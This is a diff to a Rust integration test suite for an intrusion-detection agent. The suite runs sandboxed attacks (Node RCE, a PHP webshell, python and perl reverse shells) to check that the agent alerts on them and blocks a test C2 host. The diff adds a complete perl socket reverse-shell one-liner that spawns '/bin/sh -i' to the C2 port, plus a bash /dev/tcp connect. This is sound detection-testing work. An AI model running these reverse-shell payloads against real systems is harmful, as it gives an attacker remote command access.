@@ -4,7 +4,7 @@
 //! listen, nginx serving 2,000 requests, a cron-like `run-parts` loop — raises no alert and
 //! opens no decision. The attacks — a reverse shell through the RCE route of a listening Node
 //! server (via `exec`, and via `execFile` of a renamed copy of bash), a PHP webshell behind
-//! nginx + php-fpm, a python socket reverse shell — are alerted and their C2 blocked, every
+//! nginx + php-fpm, python and perl socket reverse shells — are alerted and their C2 blocked, every
 //! round. The C2 is the low-risk test host `DE4` (`geo` never fires for it: only `lineage` and
 //! `reverse_shell` can give it a decision), in a network namespace of its own.
 //!
@@ -15,7 +15,7 @@
 mod common;
 
 use std::{
-    collections::{HashMap, HashSet},
+    collections::HashSet,
     fs,
     io::{BufRead, BufReader, Read, Write},
     net::TcpStream,
@@ -33,6 +33,10 @@ use common::{
     require_root, serial,
 };
 use serde_json::Value;
+
+/// How long to wait for what the agent or a server does: generous, for a machine shared by
+/// several engineers' builds and tests (a bound against hanging, not a speed target).
+const WAIT: Duration = Duration::from_secs(60);
 
 /// The C2's port on the test host.
 const C2_PORT: u16 = 4444;
@@ -127,6 +131,17 @@ fn http_get(port: u16, path: &str) -> String {
     let mut out = String::new();
     let _ = s.read_to_string(&mut out);
     out
+}
+
+/// The first stored event of `kind` that satisfies `pred`, waiting up to [`WAIT`] (the
+/// harness's `wait_for` allows 15 s, short on a loaded machine).
+fn wait_event(agent: &Agent, kind: &str, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
+    let mut found = None;
+    wait_until(what, WAIT, || {
+        found = agent.events(kind).into_iter().find(|e| pred(e));
+        found.is_some()
+    });
+    found.unwrap_or_else(|| panic!("no {kind} event {what}:\n{}", agent.log()))
 }
 
 fn wait_until(what: &str, timeout: Duration, mut f: impl FnMut() -> bool) -> bool {
@@ -232,7 +247,7 @@ fn nginx(dir: &Path, port: u16, php_sock: Option<&Path>) -> Group {
             .arg(&conf)
             .args(["-g", "daemon off;"]),
     );
-    let up = wait_until("nginx answers", Duration::from_secs(15), || {
+    let up = wait_until("nginx answers", WAIT, || {
         http_get(port, "/index.html").starts_with("HTTP/1.1 200")
     });
     assert!(
@@ -273,7 +288,7 @@ fn php_fpm(dir: &Path) -> (Group, PathBuf) {
             .arg(&conf),
     );
     assert!(
-        wait_until("php-fpm socket", Duration::from_secs(15), || sock.exists()),
+        wait_until("php-fpm socket", WAIT, || sock.exists()),
         "php-fpm did not start: {}",
         fs::read_to_string(dir.join("php-fpm.log")).unwrap_or_default()
     );
@@ -303,47 +318,26 @@ fn attack_agent(table: &Table, kill: bool) -> Agent {
     )
 }
 
-/// Whether process `pid` was started (directly or not) by this test. The agent watches the
-/// whole machine, where colleagues' tests run too: only our own processes count. Parents come
-/// from the agent's exec events, and from /proc for processes that forked without exec (a
-/// php-fpm worker) and are still alive.
-fn is_ours(parents: &HashMap<u64, u64>, pid: u64) -> bool {
-    let me = u64::from(std::process::id());
-    let mut cur = pid;
-    for _ in 0..64 {
-        if cur == me {
-            return true;
-        }
-        let from_proc = || {
-            let stat = fs::read_to_string(format!("/proc/{cur}/stat")).ok()?;
-            stat[stat.rfind(')')? + 1..]
-                .split_whitespace()
-                .nth(1)?
-                .parse()
-                .ok()
-        };
-        match parents.get(&cur).copied().or_else(from_proc) {
-            Some(p) if p != 0 && p != cur => cur = p,
-            _ => return false,
-        }
-    }
-    false
-}
-
-/// Alerts about processes this test started.
+/// Alerts about processes this test started. The agent watches the whole machine, where
+/// colleagues' tests run too: an alert is ours when the last exec of its process before the
+/// alert has this test binary among its ancestors (pids alone are reused within a run).
 fn our_alerts(agent: &Agent) -> Vec<Value> {
     let alerts = agent.events("alert");
     if alerts.is_empty() {
         return alerts;
     }
-    let parents: HashMap<u64, u64> = agent
-        .events("exec")
-        .iter()
-        .filter_map(|e| Some((e["pid"].as_u64()?, e["ppid"].as_u64()?)))
-        .collect();
+    let me = common::own_comm();
+    let execs = agent.events("exec");
+    let ts = |v: &Value| v["ts"].as_str().unwrap_or_default().to_string();
     alerts
         .into_iter()
-        .filter(|a| a["pid"].as_u64().is_some_and(|p| is_ours(&parents, p)))
+        .filter(|a| {
+            execs
+                .iter()
+                .rfind(|e| e["pid"] == a["pid"] && ts(e) <= ts(a))
+                .and_then(|e| e["ancestors"].as_array())
+                .is_some_and(|up| up.iter().any(|c| c.as_str() == Some(me.as_str())))
+        })
         .collect()
 }
 
@@ -380,7 +374,7 @@ fn attack_round(
             .filter_map(|x| x["anomaly"].as_str().map(String::from))
             .collect()
     };
-    let all = wait_until("expected alerts", Duration::from_secs(15), || {
+    let all = wait_until("expected alerts", WAIT, || {
         let s = seen(&new_alerts());
         expected.iter().all(|e| s.contains(*e))
     });
@@ -396,7 +390,7 @@ fn attack_round(
         return Err(format!("unexpected alerts: {unexpected:?}"));
     }
     let mine = ids(&alerts);
-    let decided = wait_until("the C2 blocked", Duration::from_secs(20), || {
+    let decided = wait_until("the C2 blocked", WAIT, || {
         agent.events("decision").iter().any(|d| {
             d["target_ip"] == DE4
                 && mine.contains(d["id"].as_str().unwrap_or_default())
@@ -410,7 +404,7 @@ fn attack_round(
         ));
     }
     // Every decision of the round ends (auto-blocked), then the C2 is unblocked again.
-    let settled = wait_until("no pending decision", Duration::from_secs(20), || {
+    let settled = wait_until("no pending decision", WAIT, || {
         !agent
             .json_lines(&["pending", "--json"])
             .iter()
@@ -423,7 +417,7 @@ fn attack_round(
             String::from_utf8_lossy(&out.stderr)
         ));
     }
-    if !wait_until("C2 unblocked", Duration::from_secs(10), || !blocked(table)) {
+    if !wait_until("C2 unblocked", WAIT, || !blocked(table)) {
         return Err("the C2 stayed blocked after unblock".into());
     }
     Ok(())
@@ -503,7 +497,7 @@ fn node_rce_reverse_shells_are_alerted_and_their_c2_blocked() {
             http_get(port, &format!("/execfile?f={}&a={}", enc(f), enc(&args)));
         },
     );
-    let lineage = agent.wait_for("alert", "lineage on the renamed bash", |a| {
+    let lineage = wait_event(&agent, "alert", "lineage on the renamed bash", |a| {
         a["anomaly"] == "lineage" && a["exe"].as_str() == kworker.to_str()
     });
     assert!(
@@ -542,7 +536,7 @@ fn php_webshell_behind_nginx_and_php_fpm_is_alerted_and_its_c2_blocked() {
             );
         },
     );
-    let alert = agent.wait_for("alert", "lineage below php-fpm", |a| {
+    let alert = wait_event(&agent, "alert", "lineage below php-fpm", |a| {
         a["anomaly"] == "lineage" && a["detail"].as_str().unwrap_or("").contains("php-fpm")
     });
     eprintln!("{alert}");
@@ -564,8 +558,8 @@ fn python_reverse_shell(port: u16) -> Command {
 }
 
 #[test]
-fn python_socket_reverse_shell_is_alerted_and_its_c2_blocked() {
-    if !require_root("python_socket_reverse_shell_is_alerted_and_its_c2_blocked") {
+fn python_and_perl_socket_reverse_shells_are_alerted_and_their_c2_blocked() {
+    if !require_root("python_and_perl_socket_reverse_shells_are_alerted_and_their_c2_blocked") {
         return;
     }
     let _serial = serial();
@@ -580,14 +574,35 @@ fn python_socket_reverse_shell_is_alerted_and_its_c2_blocked() {
         &["reverse_shell"],
         |_| {
             let mut shell = Group::spawn("python", &mut python_reverse_shell(C2_PORT));
-            let done = wait_until("python shell exits", Duration::from_secs(10), || {
+            let done = wait_until("python shell exits", WAIT, || {
                 shell.child.try_wait().ok().flatten().is_some()
             });
             assert!(done);
         },
     );
-    let alert = agent.wait_for("alert", "reverse_shell", |a| {
-        a["anomaly"] == "reverse_shell"
+    // The perl one-liner: `open(STDIN, ">&S")` and friends, then `exec /bin/sh -i`.
+    attack_rounds(
+        "perl reverse shell",
+        &agent,
+        &table,
+        &["reverse_shell"],
+        |_| {
+            let script = format!(
+                "use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')); \
+                 connect(S, sockaddr_in({C2_PORT}, inet_aton('{DE4}'))) or die; \
+                 open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S'); exec('/bin/sh -i');"
+            );
+            let mut cmd = Command::new("perl");
+            cmd.args(["-e", &script]).stdin(Stdio::null());
+            let mut shell = Group::spawn("perl", &mut cmd);
+            let done = wait_until("perl shell exits", WAIT, || {
+                shell.child.try_wait().ok().flatten().is_some()
+            });
+            assert!(done);
+        },
+    );
+    let alert = wait_event(&agent, "alert", "reverse_shell of python3", |a| {
+        a["anomaly"] == "reverse_shell" && a["comm"] == "python3"
     });
     assert_eq!(alert["severity"], "critical", "{alert}");
     assert_eq!(alert["mitre"]["technique"], "T1059", "{alert}");
@@ -610,19 +625,17 @@ fn a_reverse_shell_is_killed_with_enforce_kill() {
     let agent = attack_agent(&table, true);
     let mut shell = Group::spawn("python", &mut python_reverse_shell(C2_SILENT_PORT));
     let pid = shell.pid();
-    let alert = agent.wait_for("alert", "reverse_shell", |a| {
+    let alert = wait_event(&agent, "alert", "reverse_shell", |a| {
         a["anomaly"] == "reverse_shell" && a["pid"] == pid
     });
     assert_eq!(alert["target_ip"], DE4, "{alert}");
-    let killed = wait_until("the shell killed", Duration::from_secs(10), || {
+    let killed = wait_until("the shell killed", WAIT, || {
         shell.child.try_wait().ok().flatten().is_some()
     });
     assert!(killed, "the reverse shell {pid} survived:\n{}", agent.log());
     assert!(agent.status()["kills"].as_u64().unwrap() >= 1);
     assert!(
-        wait_until("the C2 blocked", Duration::from_secs(15), || blocked(
-            &table
-        )),
+        wait_until("the C2 blocked", WAIT, || blocked(&table)),
         "{:?}",
         agent.events("decision")
     );
@@ -761,20 +774,20 @@ fn benign_server_work_raises_nothing() {
     eprintln!("REALWORLD benign: {false_alerts} false alerts in {n} rounds");
     // The work was seen (so "nothing raised" means something): apt-get below python3, the
     // npm lifecycle shell, git below node.
-    agent.wait_for("exec", "apt-get below python3", |e| {
+    wait_event(&agent, "exec", "apt-get below python3", |e| {
         e["comm"] == "apt-get"
             && e["ancestors"].as_array().is_some_and(|a| {
                 a.iter()
                     .any(|c| c.as_str().is_some_and(|c| c.starts_with("python3")))
             })
     });
-    agent.wait_for("exec", "git below node", |e| {
+    wait_event(&agent, "exec", "git below node", |e| {
         e["comm"] == "git"
             && e["ancestors"]
                 .as_array()
                 .is_some_and(|a| a.iter().any(|c| c == "node"))
     });
-    agent.wait_for("exec", "an npm lifecycle shell", |e| {
+    wait_event(&agent, "exec", "an npm lifecycle shell", |e| {
         e["comm"] == "sh"
             && e["argv"].as_array().is_some_and(|a| {
                 a.iter()
@@ -793,4 +806,55 @@ fn benign_server_work_raises_nothing() {
         alerts.is_empty() && decisions.is_empty(),
         "benign work raised alerts {alerts:?} / decisions {decisions:?}"
     );
+}
+
+#[test]
+fn a_connect_is_credited_to_the_program_that_made_it() {
+    if !require_root("a_connect_is_credited_to_the_program_that_made_it") {
+        return;
+    }
+    let _serial = serial();
+    let agent = Agent::start("");
+    // Something to connect to on loopback (a sibling process: the test itself never listens).
+    let port = free_port();
+    let mut listener = Group::spawn(
+        "a listener",
+        Command::new("/usr/bin/python3")
+            .arg("-c")
+            .arg(
+                "import socket, sys\n\
+                 s = socket.socket(); s.bind(('127.0.0.1', int(sys.argv[1]))); s.listen(64)\n\
+                 print('ready', flush=True)\n\
+                 while True: s.accept()\n",
+            )
+            .arg(port.to_string())
+            .stdout(Stdio::piped()),
+    );
+    listener.ready_line();
+    let n = rounds();
+    let mut credited = 0;
+    for round in 0..n {
+        // bash connects, then runs its last command in place: `sleep` replaces bash.
+        let child = Command::new("/bin/bash")
+            .arg("-c")
+            .arg(format!("exec 3<>/dev/tcp/127.0.0.1/{port}; sleep 0.2"))
+            .spawn()
+            .unwrap();
+        let pid = child.id();
+        assert!(child.wait_with_output().unwrap().status.success());
+        let connect = wait_event(&agent, "connect", "of the bash round", |c| {
+            c["pid"] == pid && c["dport"] == port
+        });
+        let sleep = wait_event(&agent, "exec", "sleep in place of bash", |e| {
+            e["pid"] == pid && e["comm"] == "sleep"
+        });
+        let ts = |v: &Value| humantime::parse_rfc3339(v["ts"].as_str().unwrap()).unwrap();
+        if connect["comm"] == "bash" && ts(&connect) <= ts(&sleep) {
+            credited += 1;
+        } else {
+            eprintln!("round {round}: {connect} / {sleep}");
+        }
+    }
+    eprintln!("REALWORLD connect credited to bash: {credited}/{n}");
+    assert_eq!(credited, n);
 }
